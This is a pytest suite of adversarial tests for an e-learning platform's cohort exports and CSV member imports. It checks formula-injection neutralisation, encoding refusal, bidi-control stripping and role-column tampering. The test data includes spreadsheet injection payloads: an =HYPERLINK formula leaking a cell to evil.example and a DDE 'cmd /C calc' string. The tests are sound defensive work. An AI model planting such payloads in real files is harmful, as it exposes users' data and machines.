"""Formula injection in the exports (T29) and a hostile secretariat's CSV (T30), end to end:
names and e-mails typed through the real writers, read back from the real downloads.

Already covered elsewhere (not repeated here):

- T29 at the exporter: every prefix neutralised in a CSV cell and in a column title, no
  XLSX cell ever a formula, numbers left numbers, another delimiter on demand:
  tests/test_cohort_exports.py::test_every_formula_prefix_is_neutralised,
  ::test_xlsx_never_holds_a_formula, ::test_a_formula_in_a_column_title_is_neutralised_too,
  ::test_csv_rows_end_with_crlf_and_another_delimiter_can_be_asked,
  ::test_xlsx_numbers_are_numbers_and_arabic_is_intact; a bidi mark in front of ``=``
  removed before the guard, so it cannot hide a formula:
  ::test_no_bidi_control_reaches_a_cell_or_the_sheet_title; one ``=HYPERLINK`` name through the
  API CSV:
  tests/test_cohort_dashboard.py::test_exports_say_what_the_grid_says_with_arabic_names_and_no_live_formula.
  The HTTP exports only offer the French ``;`` CSV (the comma variant is the exporter's
  option, tested there). Here: every prefix, in names and e-mails, written by an admin, a
  trainee and a secretariat's file, in the page's and the API's CSV and XLSX, French and
  Arabic.
- T30 at the parser: encodings, duplicates, the row cap, a quote left open, bidi controls
  in names, unknown columns ignored, formula names kept as typed:
  tests/test_cohort_csv.py::test_windows_1252_file_is_refused_asking_for_csv_utf8,
  ::test_duplicates_ignore_case_and_name_the_earlier_row,
  ::test_too_many_rows_are_refused_naming_the_limit,
  ::test_a_quote_left_open_is_refused_at_its_row_not_swallowing_the_rest,
  ::test_bidi_override_is_removed_from_names,
  ::test_columns_in_any_order_and_unknown_columns_ignored,
  ::test_formula_like_names_are_kept_as_typed_they_are_neutralised_on_export; JSON members:
  tests/test_cohorts.py::test_json_members_report_bad_and_duplicate_emails; any body over the
  limit: tests/test_security.py::test_oversized_body_is_refused_with_413; a 60 MB CSV and
  200,000 rows through the API: tests/adversarial/test_limits.py::test_a_60_mb_cohort_csv_is_a_413,
  ::test_more_members_than_the_cap_are_refused_without_adding_anyone. Here: the trainer's
  page (over the request limit, over its own 2 MB), encodings, a late broken row, a tampered
  confirmation, duplicates, bidi controls in e-mails, a role column, and what is in the
  database afterwards.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import func, select

from elearn.accounts.models import User
from elearn.cohorts.models import CohortMember
from elearn.core.text import BIDI_CONTROLS
from elearn.extensions import db
from tests.cohortkit import create_cohort, staff

pytestmark = pytest.mark.adversarial

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(rows: list[list[str]], delimiter: str = ";") -> str:
    """A file as a spreadsheet saves it: quotes, separators and line breaks quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return "\ufeff" + buffer.getvalue()


def post_csv(api, token, cohort_id, text: str | bytes):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return api.call(
        "POST",
        f"/api/v1/cohorts/{cohort_id}/members",
        token=token,
        data=data,
        headers={"Content-Type": "text/csv"},
    )


def accounts(app) -> dict[str, tuple[str, set[str]]]:
    """Every account: e-mail → (name, roles)."""
    with app.app_context():
        return {u.email: (u.name, set(u.roles)) for u in db.session.scalars(select(User))}


def members(app, cohort_id) -> int:
    with app.app_context():
        return db.session.scalar(
            select(func.count())
            .select_from(CohortMember)
            .where(CohortMember.cohort_id == cohort_id)
        )


# -- T29: what the trainer downloads ---------------------------------------------------------

#: name as typed → as stored (control characters and outer spaces go at the door)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
TYPED_NAMES = {
    HYPERLINK: HYPERLINK,
    "@SUM(1+1)*cmd|' /C calc'!A0": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "=1+1",
    "\r=2+2": "=2+2",
    "=فاطمة+1": "=فاطمة+1",
}
FORMULA_EMAILS = ["=1+1@ofppt.example", "+212600000000@ofppt.example", "-2+3@ofppt.example"]


@pytest.fixture
def hostile_cohort(app, api, make, signed_in):
    people = staff(api, make)
    cohort_id = create_cohort(api, people.sale_token)
    rows = [
        ["email", "nom"],
        *[[f"csv{n}@ofppt.example", name] for n, name in enumerate(TYPED_NAMES)],
    ]
    rows += [[email, "Adresse piégée"] for email in FORMULA_EMAILS]
    rows.append(["arabe@ofppt.example", "فاطمة الزهراء العمراني"])
    response = post_csv(api, people.sale_token, cohort_id, csv_text(rows))
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["errors"] == []
    # an admin names one trainee, another trainee names themself
    admin = make.token(people.admin.email)
    created = api.post(
        "/api/v1/users",
        token=admin,
        json={"email": "admin-named@ofppt.example", "name": "+1+1", "roles": ["trainee"],
              "centre": "SALE", "password": "correct-horse-42"},
    )  # fmt: skip
    assert created.status_code == 201, created.get_json()
    own = make.token(people.trainee.email)
    assert api.patch("/api/v1/me", token=own, json={"name": "-1+2"}).status_code == 200
    added = api.post(
        f"/api/v1/cohorts/{cohort_id}/members",
        token=people.sale_token,
        json={"emails": ["admin-named@ofppt.example", people.trainee.email]},
    )
    assert added.status_code == 200 and len(added.get_json()["added"]) == 2
    stored = {**{v: v for v in TYPED_NAMES.values()}, "+1+1": "+1+1", "-1+2": "-1+2"}
    return people, cohort_id, stored


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.data.startswith("\ufeff".encode())  # Excel reads UTF-8 only with it
    return list(
        csv.reader(io.StringIO(response.data.decode("utf-8")[1:], newline=""), delimiter=";")
    )


def _xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _downloads(api, browser, token, cohort_id):
    """The four files a trainer can fetch, in French and in Arabic."""
    for lang in ("fr", "ar"):
        for kind in ("csv", "xlsx"):
            read = _csv_rows if kind == "csv" else _xlsx_rows
            page = browser.get(f"/cohorts/{cohort_id}/progress.{kind}?lang={lang}")
            yield lang, kind, "page", read(page)
            sent = api.get(f"/api/v1/cohorts/{cohort_id}/progress.{kind}?lang={lang}", token=token)
            yield lang, kind, "api", read(sent)


def test_no_cell_of_any_export_starts_like_a_formula(app, api, signed_in, hostile_cohort):
    people, cohort_id, stored = hostile_cohort
    browser = signed_in(people.sale.email)
    seen = 0
    for lang, kind, where, rows in _downloads(api, browser, people.sale_token, cohort_id):
        context = (lang, kind, where)
        for row in rows:
            for cell in row:
                if isinstance(cell, str):
                    # XML reads a bare CR back as LF; either way it is text after the apostrophe
                    assert not cell.startswith((*FORMULA_START, "\n")), (context, cell)
        names = {row[0] for row in rows[1:]}
        emails = {row[1] for row in rows[1:]}
        for name in stored.values():
            expected = "'" + name if name.startswith(FORMULA_START) else name
            assert expected in names, (context, name)
        for email in FORMULA_EMAILS:
            assert "'" + email in emails, (context, email)
        assert "فاطمة الزهراء العمراني" in names, context  # Arabic survives, BOM or not
        seen += 1
    assert seen == 8


def test_the_arabic_export_is_arabic_and_right_to_left(api, signed_in, hostile_cohort):
    people, cohort_id, _stored = hostile_cohort
    rows = _csv_rows(
        api.get(f"/api/v1/cohorts/{cohort_id}/progress.csv?lang=ar", token=people.sale_token)
    )
    assert rows[0][0] == "الاسم"
    response = api.get(
        f"/api/v1/cohorts/{cohort_id}/progress.xlsx?lang=ar", token=people.sale_token
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert sheet.sheet_view.rightToLeft is True


def test_formula_text_is_stored_and_served_as_typed(app, api, hostile_cohort):
    """The apostrophe belongs to the spreadsheet, not to the data: the database, the JSON
    progress and the pages keep the name as typed (escaped there as any text)."""
    people, cohort_id, stored = hostile_cohort
    names = {name for name, _roles in accounts(app).values()}
    assert set(stored.values()) <= names
    assert not any(n.startswith("'") for n in names)
    body = api.get(f"/api/v1/cohorts/{cohort_id}/progress", token=people.sale_token).get_json()
    served = {t["name"] for t in body["courses"][0]["trainees"]}
    assert set(stored.values()) <= served


# -- T30: the hostile file -------------------------------------------------------------------


@pytest.fixture
def cohort(api, make):
    people = staff(api, make)
    return people, create_cohort(api, people.sale_token)


def test_a_file_over_the_request_limit_sent_to_the_page_is_413_and_adds_nobody(
    app, signed_in, cohort
):
    people, cohort_id = cohort
    before = accounts(app)
    row = "x@ofppt.example;Stagiaire\r\n"
    big = ("email;nom\r\n" + row * (33 * 1024 * 1024 // len(row) + 1)).encode()
    browser = signed_in(people.sale.email)
    page = browser.post_form(
        f"/cohorts/{cohort_id}/members/preview",
        {"file": (io.BytesIO(big), "liste.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 413
    assert page.mimetype == "text/html"
    assert accounts(app) == before and members(app, cohort_id) == 0


def test_the_page_refuses_a_file_over_2_mb_saying_so(app, signed_in, cohort):
    people, cohort_id = cohort
    before = accounts(app)
    rows = "".join(f"t{n}@ofppt.example;Stagiaire {n}\r\n" for n in range(90_000))
    data = ("email;nom\r\n" + rows).encode()
    assert len(data) > 2 * 1024 * 1024
    browser = signed_in(people.sale.email)
    page = browser.post_form(
        f"/cohorts/{cohort_id}/members/preview",
        {"file": (io.BytesIO(data), "liste.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 422
    assert "2 Mo" in page.get_data(as_text=True)
    assert accounts(app) == before and members(app, cohort_id) == 0


@pytest.mark.parametrize(
    "data",
    [
        "email;nom\r\nzoe@ofppt.example;Zoé Lefèvre\r\n".encode("cp1252"),  # Excel's ANSI
        b"email;nom\r\nok@ofppt.example;Amine\r\nbad@ofppt.example;\xff\xfe\xc3\x28\r\n",
        b"\xef\xbb\xbfemail;nom\r\nok@ofppt.example;Amine\r\n\xed\xa0\x80@x.org;surrogate\r\n",
    ],
    ids=["windows-1252", "broken-sequence", "encoded-surrogate"],
)
def test_invalid_utf8_is_refused_whole_asking_for_csv_utf8(app, api, signed_in, cohort, data):
    people, cohort_id = cohort
    before = accounts(app)
    response = post_csv(api, people.sale_token, cohort_id, data)
    assert response.status_code == 422
    assert "UTF-8" in response.get_json()["detail"]
    browser = signed_in(people.sale.email)
    page = browser.post_form(
        f"/cohorts/{cohort_id}/members/preview",
        {"file": (io.BytesIO(data), "liste.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 422 and "UTF-8" in page.get_data(as_text=True)
    assert accounts(app) == before and members(app, cohort_id) == 0


def test_a_broken_row_late_in_the_file_refuses_it_whole(app, api, cohort):
    """Rows before a quote left open are valid, yet nothing of the file is applied."""
    people, cohort_id = cohort
    before = accounts(app)
    good = "".join(f"t{n}@ofppt.example;Stagiaire {n}\r\n" for n in range(50))
    response = post_csv(api, people.sale_token, cohort_id, f'email;nom\r\n{good}z@x.org;"Zineb\r\n')
    assert response.status_code == 422
    assert "52" in response.get_json()["detail"]  # the row the spreadsheet shows
    assert accounts(app) == before and members(app, cohort_id) == 0


def test_a_tampered_confirmation_adds_nobody(app, signed_in, cohort):
    """Applying re-reads the file carried in the form: edited into garbage, it is refused."""
    people, cohort_id = cohort
    before = accounts(app)
    browser = signed_in(people.sale.email)
    response = browser.post_form(
        f"/cohorts/{cohort_id}/members",
        {"csv": 'email;nom\r\na@ofppt.example;Amine\r\nb@ofppt.example;"Badr\r\n'},
    )
    assert response.status_code == 303
    page = browser.get(response.headers["Location"]).get_data(as_text=True)
    assert "lu comme CSV vers la ligne 3" in page  # the flashed reason, in French
    assert accounts(app) == before and members(app, cohort_id) == 0


def test_duplicates_make_one_account_and_a_row_error(app, api, cohort):
    people, cohort_id = cohort
    text = csv_text(
        [
            ["email", "nom"],
            ["amine@ofppt.example", "Amine"],
            ["AMINE@OFPPT.EXAMPLE", "Amine bis"],
            [" amine@ofppt.example ", "Amine ter"],
        ]
    )
    body = post_csv(api, people.sale_token, cohort_id, text).get_json()
    assert body["created_accounts"] == ["amine@ofppt.example"]
    assert [e["row"] for e in body["errors"]] == [3, 4]
    assert all("2" in e["message"] for e in body["errors"])  # names the earlier row
    assert accounts(app)["amine@ofppt.example"][0] == "Amine"
    assert members(app, cohort_id) == 1


BIDI = "".join(map(chr, BIDI_CONTROLS))


def test_bidi_controls_never_reach_a_stored_e_mail(app, api, cohort):
    """An override in an address either reveals a non-address (a row error) or is only
    noise around a real one: what is stored, mailed and shown has no control left."""
    people, cohort_id = cohort
    text = csv_text(
        [
            ["email", "nom"],
            ["\u202egro.elpmaxe@nimda", "Affiche admin@example.org"],  # displays reversed
            ["fatima\u200f@ofppt.example", "فاطمة"],  # a mark left by an Arabic sheet
            ["\u2066youssef@ofppt.example\u2069", "Youssef"],
            ["sa\u202dra@ofppt.example", "Sara"],
        ]
    )
    response = post_csv(api, people.sale_token, cohort_id, text)
    assert response.status_code == 200
    body = response.get_json()
    assert [e["row"] for e in body["errors"]] == [2]
    created = body["created_accounts"]
    assert sorted(created) == [
        "fatima@ofppt.example",
        "sara@ofppt.example",
        "youssef@ofppt.example",
    ]
    for email in accounts(app):
        assert not set(email) & set(BIDI), ascii(email)
    assert not set("".join(e["message"] for e in body["errors"])) & set(BIDI)


@pytest.mark.parametrize("header", ["role", "roles", "rôle", "is_admin", "الدور"])
def test_a_role_column_grants_nothing(app, api, cohort, header):
    people, cohort_id = cohort
    admin_before = accounts(app)[people.admin.email]
    text = csv_text(
        [
            ["email", "nom", header],
            ["new@ofppt.example", "Nouveau", "admin"],
            [people.trainee.email, "Renommé", "admin"],
            [people.admin.email, "Admin renommé", "trainee"],
            [people.kenitra.email, "Formatrice", "trainer"],
        ]
    )
    body = post_csv(api, people.sale_token, cohort_id, text).get_json()
    found = accounts(app)
    assert found["new@ofppt.example"] == ("Nouveau", {"trainee"})
    assert found[people.trainee.email][1] == {"trainee"}
    assert found[people.trainee.email][0] == "Test Trainee"  # an existing name is not retyped
    assert found[people.admin.email] == admin_before  # not added, not renamed, still admin
    assert found[people.kenitra.email][1] == {"trainer"}
    assert sorted(e["row"] for e in body["errors"]) == [4, 5]
    assert members(app, cohort_id) == 2
